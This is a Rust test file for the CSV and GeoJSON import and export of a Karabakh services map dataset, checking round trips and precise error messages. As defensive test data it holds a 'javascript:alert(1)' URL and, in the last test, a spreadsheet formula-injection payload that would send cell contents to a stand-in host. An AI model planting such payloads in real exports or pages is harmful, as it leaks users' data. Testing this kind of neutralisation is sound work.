//! CSV and GeoJSON: round trips, and errors that point at the cell or the property.

use karabakh_services_map::convert::{csv_table, features, text, ImportError};
mod common;

use karabakh_services_map::model::{write, Dataset};

use common::shipped;

fn problems(result: Result<Dataset, ImportError>) -> Vec<String> {
    match result {
        Err(ImportError::Invalid(p)) => p.into_iter().map(|p| p.0).collect(),
        other => panic!("expected problems, got {other:?}"),
    }
}

#[test]
fn csv_export_then_import_gives_back_the_same_dataset() {
    let d = shipped();
    let csv = csv_table::export(&d);
    let metadata = write::metadata(&d);
    let again = csv_table::import("data.csv", &csv, Some(&metadata)).unwrap();
    assert_eq!(again, d);
}

#[test]
fn geojson_export_then_import_gives_back_the_same_dataset_without_extra_files() {
    let d = shipped();
    let text = features::export_text(&d);
    let again = features::import("data.geojson", &text, None).unwrap();
    assert_eq!(again, d);
}

#[test]
fn geojson_export_is_an_rfc_7946_feature_collection() {
    let d = shipped();
    let value: serde_json::Value = serde_json::from_str(&features::export_text(&d)).unwrap();
    assert_eq!(value["type"], "FeatureCollection");
    let features = value["features"].as_array().unwrap();
    assert_eq!(features.len(), d.records.len());
    let first = &features[0];
    assert_eq!(first["type"], "Feature");
    assert_eq!(first["geometry"]["type"], "Point");
    let r = &d.records[0];
    assert_eq!(
        first["geometry"]["coordinates"][0],
        r.location.lon.unwrap(),
        "longitude first"
    );
    assert_eq!(first["geometry"]["coordinates"][1], r.location.lat.unwrap());
    let unmapped = features.iter().filter(|f| f["geometry"].is_null()).count();
    assert_eq!(unmapped, d.records.len() - d.mapped_records().count());
}

const HEADER: &str = "id,name,category,operator,status,date,date_basis,date_note,town,district,lat,lon,location_precision,location_note,notes,source_outlet,source_title,source_date,source_url,source_2_outlet,source_2_title,source_2_date,source_2_url";

#[test]
fn a_minimal_csv_imports_with_generated_metadata_and_dates_with_precision() {
    let csv = format!(
        "{HEADER}\n\
         atm-1,First ATM,atm,,opened,2020-12,event,Beginning of December,Hadrut,Khojavend,39.5167,47.03,settlement,,,AzerNews,,2021-02-01,https://www.azernews.az/business/175710.html,Today.az,,,https://today.az/news/business/202995.html\n\
         post-1,Post office,post,Azerpost,opened,~2022,event,,Aghali,Zangilan,39.1803,46.7592,settlement,,,ANSPress,A review,,,,,,\n"
    );
    let d = csv_table::import("openings.csv", &csv, None).unwrap();
    assert_eq!(d.title.get("en"), "openings");
    assert_eq!(
        d.categories
            .iter()
            .map(|c| c.id.as_str())
            .collect::<Vec<_>>(),
        ["atm", "post"]
    );
    assert_eq!(d.records[0].sources.len(), 2, "several sources per record");
    assert_eq!(d.records[0].operator, None);
    assert_eq!(d.records[0].status[0].date.unwrap().to_string(), "2020-12");
    assert!(d.records[1].status[0].approximate);
    assert_eq!(d.records[1].status[0].date.unwrap().to_string(), "2022");
    assert_eq!(d.as_of.to_string(), "2022");
}

#[test]
fn a_csv_error_names_the_line_and_the_column() {
    let csv = format!(
        "{HEADER}\n\
         a,A,atm,,opened,2020-12,event,,Hadrut,,39.5,47.0,settlement,,,Outlet,,,https://example.org/a,,,,\n\
         b,B,atm,,opened,2020-13,event,,Hadrut,,95,47.0,settlement,,,Outlet,,,javascript:alert(1),,,,\n"
    );
    let found = problems(csv_table::import("openings.csv", &csv, None));
    assert!(found.contains(&"openings.csv line 3, column \"date\" (record \"b\"): value \"2020-13\": \"2020-13\" is not an ISO 8601 date (YYYY, YYYY-MM or YYYY-MM-DD): the month must be 01 to 12".to_string()), "{found:#?}");
    assert!(
        found.iter().any(|p| p
            .starts_with("openings.csv line 3, column \"lat\" (record \"b\"): value 95: latitude")),
        "{found:#?}"
    );
    assert!(
        found
            .iter()
            .any(|p| p.starts_with("openings.csv line 3, column \"source_url\"")),
        "{found:#?}"
    );
    assert_eq!(found.len(), 3);
}

#[test]
fn a_row_with_the_wrong_number_of_cells_is_reported_by_line() {
    let csv = format!("{HEADER}\na,A,atm\n");
    let found = problems(csv_table::import("x.csv", &csv, None));
    assert_eq!(found, ["x.csv line 2: has 3 cells, but the header has 23"]);
}

#[test]
fn semicolons_windows_line_endings_and_a_bom_are_read() {
    let row = "a;A;atm;;opened;2020-12;event;;Hadrut;;39,5;47;settlement;;;Outlet;;;https://example.org/a;;;;";
    // A decimal comma is not a number: it is reported, not guessed.
    let csv = format!("\u{feff}{}\r\n{row}\r\n", HEADER.replace(',', ";"));
    let text = text::decode("x.csv", csv.as_bytes()).unwrap();
    let found = problems(csv_table::import("x.csv", &text, None));
    assert_eq!(
        found,
        ["x.csv line 2, column \"lat\" (record \"a\"): value \"39,5\": must be a number"]
    );
    let fixed = text.replace("39,5", "39.5");
    let d = csv_table::import("x.csv", &fixed, None).unwrap();
    assert_eq!(d.records[0].location.lat, Some(39.5));
    assert_eq!(
        d.records[0].sources[0].url.as_deref(),
        Some("https://example.org/a")
    );
}

#[test]
fn a_csv_without_required_columns_says_which() {
    let err = csv_table::import("x.csv", "id,name\na,b\n", None).unwrap_err();
    assert!(
        matches!(&err, ImportError::Unreadable(m) if m.contains("no \"category\" column")),
        "{err:?}"
    );
}

#[test]
fn a_geojson_error_names_the_feature_and_the_property() {
    let d = shipped();
    let mut value: serde_json::Value = serde_json::from_str(&features::export_text(&d)).unwrap();
    value["features"][2]["properties"]["sources"][0]["url"] = "ftp://x".into();
    value["features"][4]["geometry"]["coordinates"] = serde_json::json!([46.7, 123.0]);
    value["features"][5]["geometry"] =
        serde_json::json!({"type": "LineString", "coordinates": [[46.7, 39.7], [46.8, 39.8]]});
    let text = value.to_string();
    let found = problems(features::import("x.geojson", &text, None));
    assert_eq!(
        found,
        ["x.geojson feature 5: geometry must be a Point or null, not LineString"]
    );
    value["features"][5]["geometry"] = serde_json::Value::Null;
    let found = problems(features::import("x.geojson", &value.to_string(), None));
    let id2 = &d.records[2].id;
    let id4 = &d.records[4].id;
    assert!(
        found.iter().any(|p| p.starts_with(&format!(
            "x.geojson feature 2 (\"{id2}\"): property \"sources[0].url\" = \"ftp://x\""
        ))),
        "{found:#?}"
    );
    assert!(
        found.iter().any(|p| p.starts_with(&format!(
            "x.geojson feature 4 (\"{id4}\"): geometry = 123.0: latitude"
        ))),
        "{found:#?}"
    );
}

#[test]
fn a_lone_feature_is_read_as_a_collection_of_one_record() {
    let shipped = common::shipped();
    let one = features::export(&shipped).features.remove(0);
    let text = serde_json::to_string(&one).unwrap();
    let metadata = karabakh_services_map::model::write::metadata(&shipped);
    let d = features::import("one.geojson", &text, Some(&metadata)).unwrap();
    assert_eq!(d.records, vec![shipped.records[0].clone()]);
}

#[test]
fn geojson_that_is_not_a_feature_collection_is_rejected_with_the_reason() {
    let err = features::import(
        "x.geojson",
        r#"{"type": "Point", "coordinates": [1, 2]}"#,
        None,
    )
    .unwrap_err();
    assert!(
        matches!(&err, ImportError::Unreadable(m) if m.starts_with("x.geojson: expected a FeatureCollection or a Feature, not a bare Point geometry")),
        "{err:?}"
    );
    let err = features::import("x.geojson", "{\n  \"type\": ", None).unwrap_err();
    assert!(
        matches!(&err, ImportError::Unreadable(m) if m.contains("line 2")),
        "{err:?}"
    );
}

#[test]
fn spreadsheet_formulas_in_names_are_neutralised_on_export_and_restored_on_import() {
    let mut d = shipped();
    d.records[0].name =
        karabakh_services_map::model::Localized::en("=HYPERLINK(\"http://x.example\"&A1)");
    d.records[1].operator = Some("@evil".into());
    let csv = karabakh_services_map::convert::Format::Csv.export(&d);
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://x.example\"\"&A1)\""),
        "{}",
        &csv[..400]
    );
    assert!(csv.contains(",'@evil,"));
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",@evil"));
    let metadata = write::metadata(&d);
    let again = csv_table::import("data.csv", &csv, Some(&metadata)).unwrap();
    assert_eq!(again.records[0].name, d.records[0].name);
    assert_eq!(again.records[1].operator, d.records[1].operator);
}
